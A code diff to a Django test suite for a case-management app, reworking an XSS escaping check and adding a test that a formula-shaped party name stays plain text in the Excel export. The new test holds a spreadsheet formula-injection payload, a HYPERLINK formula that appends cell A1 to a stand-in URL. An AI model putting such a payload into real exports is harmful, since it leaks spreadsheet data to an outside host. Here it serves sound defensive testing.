@@ -11,6 +11,7 @@ from django.db import transaction
 from django.test import TestCase
 from django.urls import reverse
 from django.utils.html import escape
+from openpyxl import load_workbook
 
 from sanwei.acts.models import FactRow
 from sanwei.acts.rows import Rows
@@ -85,15 +86,26 @@ class Scripts(TestCase):
         url = case.get_absolute_url()
         self.assertEqual((case.party_name, Party.objects.get(case=case).representative), (EVIL, EVIL))
         self.assertEqual(Rows.read(case.pk).head["lead_place"], EVIL)
-        pages = [url, reverse("cases:list") + "?stage=lead", reverse("desk:home"), reverse("desk:duties"), reverse("desk:search") + "?q=alert",
-                 reverse("cases:do", args=[case.pk, "propose_filing"])]  # fmt: skip
-        for path in pages:
+        shown = [
+            url,
+            reverse("cases:list") + "?stage=lead",
+            reverse("desk:search") + "?q=alert",
+            reverse("cases:do", args=[case.pk, "propose_filing"]),
+        ]
+        for path in [*shown, reverse("desk:home"), reverse("desk:duties")]:
             page = self._at(lead, path)
             self.assertEqual(self.clean(page), [], path)
-            self.assertIn(escape(EVIL), page, path)
-        sheet = lead.client().get(reverse("cases:export"))
-        text = zipfile.ZipFile(io.BytesIO(sheet.content)).read("xl/sharedStrings.xml").decode()
-        self.assertNotIn("<svg", text)
+            self.assertTrue(path not in shown or escape(EVIL) in page, path)
+
+    def test_a_name_that_looks_like_a_formula_is_text_in_the_sheet(self) -> None:
+        lead = self.world["register_lead"]
+        evil = '=HYPERLINK("http://example.invalid/"&A1,"点这里")'
+        lead.send(lead.post(party_name=evil))
+        lead.send(lead.post(party_name=EVIL))
+        sheet = load_workbook(io.BytesIO(lead.client().get(reverse("cases:export")).content)).active
+        found = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
+        self.assertEqual((found[f"'{evil}"], found[EVIL]), ("s", "s"))
+        self.assertNotIn("f", found.values())
 
     def test_a_paper_shows_a_script_as_text(self) -> None:
         one = self.world["issue_decision"]
